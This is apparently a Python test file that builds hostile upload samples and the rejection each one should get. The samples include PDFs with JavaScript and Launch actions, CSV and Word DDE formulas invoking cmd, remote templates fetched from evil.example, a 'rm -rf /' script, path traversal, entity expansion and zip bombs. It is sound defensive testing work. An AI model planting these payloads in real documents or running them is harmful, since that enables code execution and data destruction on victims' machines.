"""Files that must not come in, by name: what makes each of them, and the refusal it gets."""

import zipfile
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.foundation.files import samples
from tests.foundation.files.samples import (
    OFFICE,
    OLE2,
    docx,
    docx_field,
    docx_linking,
    docx_with,
    odf,
    pdf,
    pptx,
    xlsx,
    zipped,
)


def with_action(kind: str, **more: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name("/" + kind), **more)

    return pdf(change)


def with_page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def with_nested_action(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([script]))


def with_named_script(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script])))


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["tool.exe"] = b"MZ"


def with_pinned_file(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))]
    )


def with_film(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])


def with_form_of_scripts(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def with_bad_link(address: str) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        link = Dictionary(S=Name.URI, URI=pikepdf.String(address))
        document.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)]
        )

    return pdf(change)


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))


def owner_locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="", owner="secret"))


def broken_pdf_with_script() -> bytes:
    """The cross-reference table leads nowhere, so a reader rebuilds it; an older revision holds a script."""
    content = pdf(with_page_action)
    return content[: content.rindex(b"startxref")] + b"startxref\n1\n%%EOF\n"


def docx_of_type(kind: str, *more: str) -> bytes:
    return docx(parts={"[Content_Types].xml": samples.content_types("word/document.xml", kind, *more)})


WORD = f"{OFFICE}.wordprocessingml.document.main+xml"
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
ODF_MANIFEST = (
    '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    "<m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
)
HOSTILE = {
    # ---- Names and sizes
    "empty.pdf": (lambda: b"", "empty"),
    "no ending": (pdf, "no_extension"),
    ".pdf": (pdf, "no_extension"),
    "minutes.pdf.exe": (pdf, "type_not_allowed"),
    "minutes\u202efdp.exe": (lambda: b"MZ", "type_not_allowed"),
    "shortcut.lnk": (lambda: b"L\x00", "type_not_allowed"),
    "archive.zip": (partial(zipped, {"a.txt": "a"}), "type_not_allowed"),
    "moving.gif": (partial(samples.moving, "GIF"), "type_not_allowed"),
    "page.html": (lambda: b"<html>", "svg"),
    "drawing.svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "svg"),
    "page.xhtml": (lambda: b"<html>", "svg"),
    "macros.docm": (docx, "macros"),
    "macros.xlsm": (xlsx, "macros"),
    "old.doc": (lambda: OLE2, "old_office"),
    "letter.rtf": (lambda: b"{\\rtf1}", "old_office"),
    # ---- Lies about the type
    "program.pdf": (lambda: b"MZ" + b"\x00" * 200, "not_what_it_says"),
    "linux.pdf": (lambda: b"\x7fELF" + b"\x00" * 200, "not_what_it_says"),
    "page.pdf": (lambda: b"<!doctype html><script>1</script>", "not_what_it_says"),
    "word.pdf": (docx, "not_what_it_says"),
    "pdf.docx": (pdf, "not_what_it_says"),
    "excel.docx": (xlsx, "not_what_it_says"),
    "word.xlsx": (docx, "not_what_it_says"),
    "any zip.docx": (partial(zipped, {"a.txt": "a"}), "not_what_it_says"),
    "sheet.odt": (partial(odf, "spreadsheet"), "not_what_it_says"),
    "docx.odt": (docx, "not_what_it_says"),
    "jpeg.png": (samples.jpeg, "not_what_it_says"),
    "png.jpg": (samples.png, "not_what_it_says"),
    "gif.png": (partial(samples.moving, "GIF"), "not_what_it_says"),
    "drawing.png": (lambda: b"<svg onload='alert(1)'/>", "not_what_it_says"),
    "page.txt": (lambda: b"<html><script>alert(1)</script>", "svg"),
    "drawing.txt": (lambda: b"  <?xml version='1.0'?><svg/>", "svg"),
    "program.txt": (lambda: b"MZ\x90\x00", "not_what_it_says"),
    "script.txt": (lambda: b"#!/bin/sh\nrm -rf /\n", "not_what_it_says"),
    "pdf.csv": (pdf, "not_what_it_says"),
    "noise.txt": (lambda: bytes(range(256)), "not_text"),
    "nul.csv": (lambda: b"a,b\x00c\n", "not_text"),
    "escape.txt": (lambda: b"\x1b]0;title\x07", "not_text"),
    "dde.csv": (lambda: b"name\n=cmd|' /C calc'!A0\n", "starts_programs"),
    "dde at.csv": (lambda: b"name\n\"@SUM(1)+cmd|' /C calc'!A0\"\n\"+cmd|' /C calc'!A0\"\n", "starts_programs"),
    # ---- PDF
    "cut.pdf": (lambda: pdf()[:-300], "damaged"),
    "only a header.pdf": (lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    "locked.pdf": (locked_pdf, "encrypted"),
    "locked for changes.pdf": (owner_locked_pdf, "encrypted"),
    "script.pdf": (partial(with_action, "JavaScript", JS=pikepdf.String("app.alert(1)")), "active_content"),
    "launch.pdf": (partial(with_action, "Launch", F=pikepdf.String("cmd.exe")), "active_content"),
    "submit.pdf": (partial(with_action, "SubmitForm"), "active_content"),
    "go to other file.pdf": (partial(with_action, "GoToR"), "active_content"),
    "page action.pdf": (partial(pdf, with_page_action), "active_content"),
    "second action.pdf": (partial(pdf, with_nested_action), "active_content"),
    "named script.pdf": (partial(pdf, with_named_script), "active_content"),
    "script in object stream.pdf": (
        partial(pdf, with_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active_content",
    ),
    "film.pdf": (partial(pdf, with_film), "active_content"),
    "xfa.pdf": (partial(pdf, with_form_of_scripts), "active_content"),
    "javascript link.pdf": (partial(with_bad_link, "javascript:alert(1)"), "active_content"),
    "file link.pdf": (partial(with_bad_link, "file:///etc/passwd"), "active_content"),
    "attachment.pdf": (partial(pdf, with_attachment), "embedded_files"),
    "pinned file.pdf": (partial(pdf, with_pinned_file), "embedded_files"),
    "tail.pdf": (lambda: pdf() + b"<script>alert(1)</script>", "hidden_data"),
    "pdf and zip.pdf": (lambda: pdf() + zipped({"a.txt": "a"}), "hidden_data"),
    "mended script.pdf": (broken_pdf_with_script, "active_content"),
    # ---- Office
    "vba.docx": (partial(docx_with, "word/vbaProject.bin", OLE2), "macros"),
    "really docm.docx": (partial(docx_of_type, "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macro part.docx": (partial(docx_of_type, WORD, "application/vnd.ms-office.vbaProject"), "macros"),
    "active x.docx": (partial(docx_with, "word/activeX/activeX1.xml", "<a/>"), "macros"),
    "macro sheet.xlsx": (partial(xlsx, {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "ole.docx": (partial(docx_with, "word/embeddings/oleObject1.bin", OLE2), "embedded_files"),
    "ole renamed.docx": (partial(docx_with, "word/media/image1.png", OLE2), "embedded_files"),
    "package.pptx": (partial(pptx, {"ppt/embeddings/sheet.xlsx": xlsx()}), "embedded_files"),
    "zip inside.docx": (partial(docx_with, "word/media/image1.png", zipped({"a": "a"})), "nested_archive"),
    "7z inside.docx": (partial(docx_with, "word/media/image1.png", b"7z\xbc\xaf\x27\x1c..."), "nested_archive"),
    "program inside.docx": (partial(docx_with, "word/media/image1.png", b"MZ\x90"), "nested_archive"),
    "exe part.docx": (partial(docx_with, "word/tool.exe", b"abc"), "embedded_files"),
    "remote template.docx": (
        partial(docx_linking, "attachedTemplate", "https://evil.example/t.dotm"),
        "external_content",
    ),
    "template on a share.docx": (
        partial(docx_linking, "attachedTemplate", "file://\\\\evil\\share\\t.dotm"),
        "external_content",
    ),
    "remote ole.docx": (partial(docx_linking, "oleObject", "https://evil.example/x"), "embedded_files"),
    "remote picture.docx": (partial(docx_linking, "image", "https://evil.example/track.png"), "external_content"),
    "script link.docx": (partial(docx_linking, "hyperlink", "javascript:alert(1)"), "external_content"),
    "other workbook.xlsx": (partial(xlsx, {"xl/externalLinks/externalLink1.xml": "<a/>"}), "external_content"),
    "dde.docx": (partial(docx_field, "DDEAUTO c:\\\\windows\\\\cmd.exe"), "external_content"),
    "dde in pieces.docx": (partial(docx_field, "DD", "EAU", "TO cmd"), "external_content"),
    "entities.docx": (partial(docx_with, "word/extra.xml", DTD), "damaged"),
    "entities in rels.docx": (partial(docx_with, "word/_rels/extra.rels", DTD), "damaged"),
    "not xml.docx": (partial(docx_with, "word/document.xml", "<a>"), "damaged"),
    "locked.docx": (lambda: OLE2 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "really doc.docx": (lambda: OLE2 + b"\x00" * 600, "old_office"),
    "zip password.docx": (lambda: samples.with_flag_encrypted(docx()), "encrypted"),
    "prefix.docx": (lambda: b"PK\x03\x04" + b"x" * 50 + docx(), "hidden_data"),
    "tail.docx": (lambda: docx() + b"<script>alert(1)</script>", "hidden_data"),
    "cut.docx": (lambda: docx()[:-40], "damaged"),
    "climbing.docx": (partial(docx_with, "../../etc/cron.d/x.xml", "<a/>"), "damaged"),
    "backslash.docx": (partial(docx_with, "word\\..\\x.xml", "<a/>"), "damaged"),
    "twice.docx": (partial(docx_with, "WORD/document.xml", "<a/>"), "damaged"),
    "bomb.docx": (partial(docx_with, "word/big.xml", b"<a>" + b" " * 60_000_000 + b"</a>"), "bomb"),
    "overlap.docx": (samples.overlapping_zip, "bomb"),
    "many parts.docx": (
        lambda: docx(parts={f"word/p{n}.xml": "<a/>" for n in range(3_100)}, compress=zipfile.ZIP_STORED),
        "too_many_parts",
    ),
    # ---- OpenDocument
    "locked.odt": (partial(odf, "text", "", {"META-INF/manifest.xml": ODF_MANIFEST}), "encrypted"),
    "basic.odt": (partial(odf, "text", "", {"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "script.ods": (partial(odf, "spreadsheet", "", {"Scripts/python/x.py": "1"}), "macros"),
    "listener.odt": (partial(odf, "text", "<script:event-listener/>"), "macros"),
    "remote picture.odt": (
        partial(odf, "text", '<draw:image xlink:href="https://evil.example/x.png"/>'),
        "external_content",
    ),
    "share.odt": (partial(odf, "text", '<text:section-source xlink:href="//evil/share/x.odt"/>'), "external_content"),
    "script link.odt": (partial(odf, "text", '<text:a xlink:href="javascript:1">x</text:a>'), "external_content"),
    "object.odt": (partial(odf, "text", "", {"Object 1": OLE2}), "embedded_files"),
    # ---- Images
    "bomb.png": (samples.png_bomb, "too_many_pixels"),
    "cut.jpg": (lambda: samples.jpeg((400, 300))[:-200], "damaged"),
    "cut.png": (lambda: samples.png((400, 300), text="x" * 500)[:-600], "damaged"),
    "moving.webp": (partial(samples.moving, "WEBP"), "animated"),
    "moving.png": (partial(samples.moving, "PNG"), "animated"),
    "header only.webp": (lambda: b"RIFF\x10\x00\x00\x00WEBPVP8 ", "damaged"),
}
